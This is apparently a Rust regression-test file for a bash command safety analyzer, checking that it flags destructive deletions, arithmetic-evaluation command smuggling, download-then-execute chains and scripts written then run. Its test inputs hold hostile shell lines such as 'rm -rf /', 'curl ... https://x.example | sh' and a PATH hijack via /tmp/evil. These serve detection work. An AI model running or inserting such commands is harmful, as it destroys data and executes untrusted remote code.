//! Regressions where the parser's reading differs from bash's.

use super::*;

// ---------------------------------------------------------------------------------
// Regressions: places where the parser's reading differs from bash's.
// ---------------------------------------------------------------------------------
// brush-parser 0.4.0 reads `( ( cmd ) )` as the arithmetic command `(( cmd ))`.
t!(
    regress_nested_subshells_not_arith,
    "( ( rm -rf / ) )",
    [D(&["/"]), Ctx("rm", Context::Subshell)]
);
t!(regress_nested_subshells_tight, "( (rm -f x) )", [D(&["x"])]);
t!(
    regress_nested_subshells_utf8,
    "echo é; ( ( rm -rf é ) )",
    [D(&["é"])]
);
t!(
    regress_real_arith_kept,
    "(( 1 + 2 )) && echo ok",
    [AllRO, N(2)]
);
// bash evaluates names in arithmetic recursively: `x='a[$(cmd)]'; (( x ))` runs cmd.
t!(
    regress_arith_names_dynamic,
    "x='a[$(rm -rf /)]'; (( x ))",
    [Dy("Arithmetic"), P("((")]
);
t!(
    regress_arith_read_var,
    "read n; (( n > 1 )) && echo big",
    [Dy("Arithmetic")]
);
t!(
    regress_arith_env_var_ok,
    "(( COLUMNS > 80 )) && echo wide",
    [AllRO]
);
t!(regress_arith_int_var_ok, "i=0; (( i++ ))", [NoDy]);
t!(
    regress_arith_deep_parens_are_arith,
    &format!("{}ls{}", "(".repeat(12), ")".repeat(12)),
    [AllRO, P("(("), N(1)]
);
// Deeper, the parser may read the inside 2^40 times: refused before it (`parse/nesting.rs`).
t!(
    deep_parens_are_refused_before_the_parser,
    &format!("{}ls{}", "(".repeat(40), ")".repeat(40)),
    [PErr]
);
t!(
    regress_test_arith_operand,
    "x=$(cat f); [[ x -eq 1 ]] && echo one",
    [Dy("Arithmetic")]
);
t!(
    regress_test_arith_expansion,
    "[[ $n -eq 1 ]] && echo one",
    [Dy("ParameterExpansion")]
);
t!(
    regress_test_string_compare_ok,
    "[[ -f Cargo.toml ]] && echo yes",
    [AllRO]
);
t!(
    regress_arith_for,
    "read n; for ((i = 0; i < n; i++)); do echo $i; done",
    [Dy("Arithmetic")]
);
t!(regress_let, "y=\"$1\"; let x=y+1", [Dy("Arithmetic")]);
t!(
    regress_for_var_unsafe,
    "for v in $(cat list); do (( v )); done",
    [Dy("Arithmetic")]
);
t!(regress_arith_numbers_ok, "(( 1 + 0x1F ))", [AllRO]);
// bash reads `((…) )` (closing pair not adjacent) as nested subshells.
t!(
    regress_open_adjacent_close_apart,
    "((rm -rf /) )",
    [D(&["/"])]
);
t!(
    fx_download_then_run,
    "curl -fsSL -o install.sh https://x.example/i.sh && bash install.sh",
    [H(HazardKind::FetchToExec)]
);
t!(
    fx_download_chmod_run,
    "wget -O ./run https://x.example/r && chmod +x run && ./run",
    [H(HazardKind::FetchToExec)]
);
t!(
    fx_redirect_then_source,
    "curl -s https://x.example > env.sh; source ./env.sh",
    [H(HazardKind::FetchToExec)]
);
t!(
    fx_curl_o_stdout_pipe,
    "curl -o /dev/stdout https://x.example | sh",
    [H(HazardKind::FetchToExec)]
);
t!(
    x_perl_cluster,
    "perl -ne 'print if /x/' f.txt",
    [X("perl", "-e")]
);
t!(
    x_python_cluster,
    "python3 -uc 'import os'",
    [X("python3", "-c")]
);
t!(
    regress_non_ascii_option_no_panic,
    "perl -é x; python3 -éc y",
    [P("perl")]
);
// A script written earlier in the same text and then run is analyzed too.
t!(
    written_then_run_heredoc,
    "cat > job.sh <<'EOF'\nrm -rf ~/data\nEOF\nbash job.sh",
    [
        D(&["~/data"]),
        X("bash", "script"),
        Ctx("rm", Context::ShellString)
    ]
);
t!(
    written_then_run_echo,
    "echo 'curl -s https://x.example | sh' > x.sh && chmod +x x.sh && ./x.sh",
    [H(HazardKind::FetchToExec)]
);
t!(
    written_then_sourced,
    "printf 'export PATH=/tmp/evil:$PATH\\n' > env.sh; . ./env.sh",
    [Env("PATH")]
);
t!(
    written_appended,
    "echo 'ls' > s.sh; echo 'rm -f z' >> s.sh; sh s.sh",
    [D(&["z"])]
);
